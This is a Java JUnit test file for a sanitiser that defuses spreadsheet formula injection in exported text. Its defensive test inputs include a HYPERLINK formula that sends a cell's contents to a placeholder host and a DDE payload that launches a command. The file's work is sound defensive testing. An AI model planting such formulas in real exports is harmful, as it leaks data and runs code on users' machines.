package dev.criteria.report;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UntrustedTextTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://x?\"&A1)",
        "=cmd|'/c calc'!A1",
        "-5",
        "+49 30 123",
        "@handle",
        "\ttab",
        "\rreturn",
        "\nfeed",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "  =1",
        "\u00A0=1",
        "\u3000=1",
        "\u200B=1",
        "\uFEFF=1",
        "\u2060\u200D =1",
        "\"=1+1"
      })
  void putsAnApostropheBeforeWhatASpreadsheetWouldRun(String text) {
    assertThat(UntrustedText.inSpreadsheet(text)).isEqualTo("'" + text);
  }

  @Test
  void putsAnApostropheBeforeNul() {
    assertThat(UntrustedText.inSpreadsheet("\0=1")).isEqualTo("'\uFFFD=1");
    assertThat(UntrustedText.inSpreadsheet("\0x")).isEqualTo("'\uFFFDx");
    assertThat(UntrustedText.inSpreadsheet("\u001B=1")).isEqualTo("'\uFFFD=1");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "Acme",
        "a=b",
        "1 - 2; 3 + 4",
        "x@example.org",
        "'=1",
        "first\r\nsecond\tthird",
        "Ελληνικά 日本語 😀",
        "  leading space"
      })
  void leavesOtherTextAlone(String text) {
    assertThat(UntrustedText.inSpreadsheet(text)).isEqualTo(text);
  }

  @ParameterizedTest
  @CsvSource(
      quoteCharacter = '`',
      value = {
        "`a;=1`, `a;'=1`",
        "`a; =1`, `a;' =1`",
        "`a\n=1`, `a\n'=1`",
        "`a\n\n=1`, `a\n\n'=1`",
        "`a;\"=1`, `a;'\"=1`",
        "`a;;@1;-2`, `a;;'@1;'-2`"
      })
  void putsAnApostropheWhereASemicolonOrLineBreakStartsACell(String text, String expected) {
    assertThat(UntrustedText.inSpreadsheet(text)).isEqualTo(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"a\0b", "a\u001Bb", "a\u0007b", "a\u007Fb", "a\u0085b", "a\uD800b", "a\uDC00b"})
  void replacesControlCharactersAndLoneSurrogatesInASpreadsheet(String text) {
    assertThat(UntrustedText.isUnreadable(text)).isTrue();
    assertThat(UntrustedText.inSpreadsheet(text)).isEqualTo("a\uFFFDb");
  }

  @Test
  void findsNothingUnreadableInTabsLineBreaksAndPairsOfSurrogates() {
    assertThat(UntrustedText.isUnreadable("a\tb\r\nc😀")).isFalse();
  }

  @Test
  void cutsWhatIsLongerThanACell() {
    String fits = "x".repeat(UntrustedText.MAX_CELL);
    assertThat(UntrustedText.inSpreadsheet(fits)).isEqualTo(fits);
    assertThat(UntrustedText.inSpreadsheet(fits + "x"))
        .hasSize(UntrustedText.MAX_CELL)
        .endsWith("x" + UntrustedText.CUT_MARK);
  }

  @Test
  void neverCutsWithinAPairOfSurrogates() {
    assertThat(UntrustedText.cut("a😀b", 2)).isEqualTo("a");
    assertThat(UntrustedText.cut("a😀b", 3)).isEqualTo("a😀");
  }

  @Test
  void changesOnlyLoneSurrogatesForJson() {
    assertThat(UntrustedText.inJson("=1\0\u202E\uD800😀")).isEqualTo("=1\0\u202E\uFFFD😀");
  }
}
